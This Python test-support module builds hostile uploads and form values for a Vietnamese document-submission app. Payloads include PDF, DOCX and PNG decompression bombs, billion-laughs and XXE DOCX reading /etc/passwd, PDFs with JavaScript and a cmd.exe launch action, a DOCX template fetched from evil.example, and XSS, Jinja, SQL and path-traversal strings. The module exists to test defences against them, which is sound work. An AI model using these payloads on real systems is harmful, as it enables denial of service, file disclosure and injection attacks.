"""Crafted hostile files and form values, built in code (nothing opaque committed).

Each :class:`Payload` has a name shown in test ids, the bytes, the file name an attacker
would send, and what kind of thing it pretends to be. Built lazily: some are large.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from pypdf import PdfWriter

from tests.support import raw_pdf


@dataclass(frozen=True)
class Payload:
    name: str
    filename: str
    build: Callable[[], bytes]
    pretends: str  # pdf, docx, txt, image, doc


def _pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A hand-assembled PDF-1.7 (binary marker line, as real writers make) with a correct
    xref, so parsers reach the hostile part."""
    return raw_pdf(objects, header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")


def _page_with_stream(stream: bytes, extra: bytes = b"", resources: bytes = b"<< >>") -> bytes:
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources " + resources + b" >>",
            b"<< /Length %d %s >>\nstream\n" % (len(stream), extra) + stream + b"\nendstream",
        ]
    )


def _flate_bomb(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    chunk = b"\0" * (1 << 20)
    parts = [compressor.compress(chunk) for _ in range(size >> 20)]
    parts.append(compressor.flush())
    return b"".join(parts)


def pdf_bomb() -> bytes:
    """A content stream that inflates to 1 GiB."""
    return _page_with_stream(_flate_bomb(1 << 30), b"/Filter /FlateDecode")


def huge_image_pdf() -> bytes:
    """An image that declares 60000 × 60000 pixels (10 GB decoded) with a tiny stream."""
    image = _flate_bomb(1 << 20)
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /Im1 5 0 R >> >> >>",
            b"<< /Length 33 >>\nstream\nq 595 0 0 842 0 0 cm /Im1 Do Q\n\nendstream",
            b"<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace "
            b"/DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(image)
            + image
            + b"\nendstream",
        ]
    )


def nested_pdf() -> bytes:
    """Arrays nested 100,000 deep (recursion bombs in naive parsers)."""
    depth = 100_000
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Deep " + b"[" * depth + b"]" * depth + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def looping_pdf() -> bytes:
    """A page tree whose Kids point back to itself."""
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="matkhau", owner_password="chu", algorithm="AES-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def zero_page_pdf() -> bytes:
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def text_pdf(text: str) -> bytes:
    stream = b"BT /F1 12 Tf 72 760 Td (" + text.encode("latin-1") + b") Tj ET"
    return _page_with_stream(
        stream,
        resources=b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>",
    )


def _docx(document_xml: bytes, *, content_type: str | None = None, extra=()) -> bytes:
    content_type = content_type or (
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.'
            'org/package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/word/document.xml" '
            f'ContentType="{content_type}"/></Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http:'
            '//schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="word/document.xml"/></Relationships>',
        )
        archive.writestr("word/document.xml", document_xml)
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _para_docx(text: str) -> bytes:
    return _docx(
        b'<?xml version="1.0" encoding="UTF-8"?><w:document '
        + W
        + b"><w:body><w:p><w:r><w:t>"
        + text.encode()
        + b"</w:t></w:r></w:p></w:body></w:document>"
    )


def docx_zip_bomb() -> bytes:
    """document.xml inflating to 1 GiB of spaces inside a valid-looking package."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", b"<Types/>")
        archive.writestr("_rels/.rels", b"<Relationships/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            chunk = b" " * (1 << 20)
            for _ in range(1024):
                member.write(chunk)
    return buffer.getvalue()


def docx_many_members() -> bytes:
    return _docx(
        b"<w:document " + W + b"><w:body/></w:document>",
        extra=[(f"word/media/x{i}.bin", b"x") for i in range(5000)],
    )


def billion_laughs_docx() -> bytes:
    entities = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "&a%d;&a%d;&a%d;&a%d;&a%d;&a%d;&a%d;&a%d;&a%d;&a%d;">'
        % ((i,) + (i - 1,) * 10)
        for i in range(1, 10)
    )
    return _docx(
        b'<?xml version="1.0"?><!DOCTYPE w:document ['
        + entities
        + b"]><w:document "
        + W
        + b"><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>"
    )


def xxe_docx() -> bytes:
    return _docx(
        b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<w:document " + W + b"><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body>"
        b"</w:document>"
    )


def png(width: int, height: int) -> bytes:
    """A PNG header claiming ``width`` × ``height`` (decompression-bomb dimensions)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * min(width * 3 + 1, 1 << 16))
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def elf() -> bytes:
    with open("/bin/true", "rb") as handle:
        return handle.read(65536)


TCVN3 = "KÕ ho¹ch thi ®ua n¨m häc 2025-2026\nTr­êng THCS Mü Th¹nh\n".encode("latin-1", "replace")


def _payloads() -> list[Payload]:
    ok_pdf = _pdf()
    return [
        Payload("empty-pdf", "rỗng.pdf", lambda: b"", "pdf"),
        Payload("truncated-pdf", "cắt-cụt.pdf", lambda: text_pdf("Ke hoach")[:300], "pdf"),
        Payload("encrypted-pdf", "mật khẩu.pdf", encrypted_pdf, "pdf"),
        Payload("zero-page-pdf", "không trang.pdf", zero_page_pdf, "pdf"),
        Payload("two-thousand-pages", "2000 trang.pdf", lambda: _pdf(2000), "pdf"),
        Payload("pdf-bomb", "bom.pdf", pdf_bomb, "pdf"),
        Payload("huge-image-pdf", "ảnh khổng lồ.pdf", huge_image_pdf, "pdf"),
        Payload("nested-objects-pdf", "lồng sâu.pdf", nested_pdf, "pdf"),
        Payload("looping-page-tree", "vòng lặp.pdf", looping_pdf, "pdf"),
        Payload("header-only-pdf", "chỉ đầu.pdf", lambda: b"%PDF-1.7\n", "pdf"),
        Payload(
            "broken-xref-pdf", "xref hỏng.pdf", lambda: ok_pdf.replace(b"xref", b"xrex"), "pdf"
        ),
        Payload("elf-renamed-pdf", "chương trình.pdf", elf, "pdf"),
        Payload("html-renamed-pdf", "trang.pdf", lambda: b"<html><script>alert(1)</script>", "pdf"),
        Payload("pdf-zip-polyglot", "đa dạng.pdf", lambda: ok_pdf + _para_docx("x"), "pdf"),
        Payload(
            "pdf-with-javascript",
            "js.pdf",
            lambda: _raw_pdf(
                [
                    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
                    b"<< /S /JavaScript /JS (app.alert(1)) >>",
                ]
            ),
            "pdf",
        ),
        Payload("docx-zip-bomb", "bom.docx", docx_zip_bomb, "docx"),
        Payload("docx-many-members", "nhiều phần.docx", docx_many_members, "docx"),
        Payload("docx-billion-laughs", "tràng cười.docx", billion_laughs_docx, "docx"),
        Payload("docx-xxe", "xxe.docx", xxe_docx, "docx"),
        Payload("docx-malformed-xml", "hỏng.docx", lambda: _docx(b"<w:document><w:body>"), "docx"),
        Payload(
            "docm-macro",
            "macro.docx",
            lambda: _docx(
                b"<w:document " + W + b"><w:body/></w:document>",
                content_type="application/vnd.ms-word.document.macroEnabled.main+xml",
                extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 512)],
            ),
            "docx",
        ),
        Payload(
            "docx-no-content-types",
            "thiếu.docx",
            lambda: _zip({"word/document.xml": b"<a/>"}),
            "docx",
        ),
        Payload("gzip-renamed-docx", "nén.docx", lambda: zlib.compress(b"x" * 1000), "docx"),
        Payload(
            "rar-renamed-docx", "rar.docx", lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 100, "docx"
        ),
        Payload("png-renamed-docx", "ảnh.docx", lambda: png(10, 10), "docx"),
        Payload("truncated-docx", "cụt.docx", lambda: _para_docx("Kế hoạch")[:200], "docx"),
        Payload(
            "ole-garbage-doc",
            "cũ.doc",
            lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 4000,
            "doc",
        ),
        Payload("txt-control-chars", "điều khiển.txt", lambda: bytes(range(32)) * 50, "txt"),
        Payload("txt-tcvn3", "tcvn3.txt", lambda: TCVN3, "txt"),
        Payload("txt-utf16", "utf16.txt", lambda: "Kế hoạch năm học".encode("utf-16"), "txt"),
        Payload("txt-invalid-utf8", "hỏng mã.txt", lambda: b"K\xe1\xba\xbf ho\xff\xfe\xc3", "txt"),
        Payload("png-dimension-bomb", "bom ảnh.png", lambda: png(60000, 60000), "image"),
        Payload(
            "svg-with-script",
            "ảnh.png",
            lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
            "image",
        ),
        Payload("path-traversal-name", "../../../../etc/passwd.pdf", lambda: ok_pdf, "pdf"),
        Payload("nul-in-name", "a\x00b.pdf", lambda: ok_pdf, "pdf"),
        Payload("rtl-override-name", "hồ sơ\u202efdp.exe", lambda: ok_pdf, "pdf"),
        Payload("very-long-name", "đ" * 1000 + ".pdf", lambda: ok_pdf, "pdf"),
        Payload(
            "nfd-vietnamese-name",
            "Kế hoạch thi đua.pdf".encode().decode() and "Ke\u0302\u0301 hoa\u0323ch.pdf",
            lambda: ok_pdf,
            "pdf",
        ),
        Payload("windows-device-name", "CON.pdf", lambda: ok_pdf, "pdf"),
        Payload(
            "truncated-jpeg", "ảnh cụt.jpg", lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "image"
        ),
        Payload(
            "docx-external-template",
            "mẫu ngoài.docx",
            lambda: _docx(
                b"<w:document " + W + b"><w:body/></w:document>",
                extra=[
                    (
                        "word/_rels/settings.xml.rels",
                        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                        b'relationships"><Relationship Id="r1" Type="http://schemas.'
                        b"openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
                        b'" Target="http://evil.example/t.dotm" TargetMode="External"/>'
                        b"</Relationships>",
                    )
                ],
            ),
            "docx",
        ),
        Payload(
            "xlsx-renamed-docx",
            "bảng.docx",
            lambda: _zip(
                {
                    "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/'
                    b'package/2006/content-types"><Override PartName="/xl/workbook.xml" '
                    b'ContentType="application/vnd.openxmlformats-officedocument.'
                    b'spreadsheetml.sheet.main+xml"/></Types>',
                    "xl/workbook.xml": b"<workbook/>",
                }
            ),
            "docx",
        ),
        Payload(
            "pdf-launch-action",
            "chạy.pdf",
            lambda: _raw_pdf(
                [
                    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
                    b"<< /S /Launch /F (cmd.exe) >>",
                ]
            ),
            "pdf",
        ),
    ]


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


PAYLOADS = _payloads()

# Form values: each must be stored and shown back exactly (escaped), or refused with a
# Vietnamese message — never a crash, never executed.
FORM_VALUES = {
    "html-injection": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "jinja-injection": (
        "{{ config }} {% for x in range(10**9) %}{{ x }}{% endfor %} {{ ''.__class__ }}"
    ),
    "docx-xml-injection": "</w:t></w:r><w:r><w:t>CHÈN</w:t></w:r>&amp;<w:p/>",
    "control-characters": "Nguyễn\x00\x01\x07\x1b[31m Văn\x0b A",
    "bidi-override": "Nguyễn \u202eA nĂV\u202c",
    "emoji-and-combining": "Trần 👩‍🏫 Thị Ánh — “trích” ‘dẫn’ & <ký tự> e\u0301",
    "megabyte-field": "Thành tích xuất sắc. " * 52000,
    "sql-like": "'; DROP TABLE submissions; --",
    "path-like": "../../etc/passwd",
}
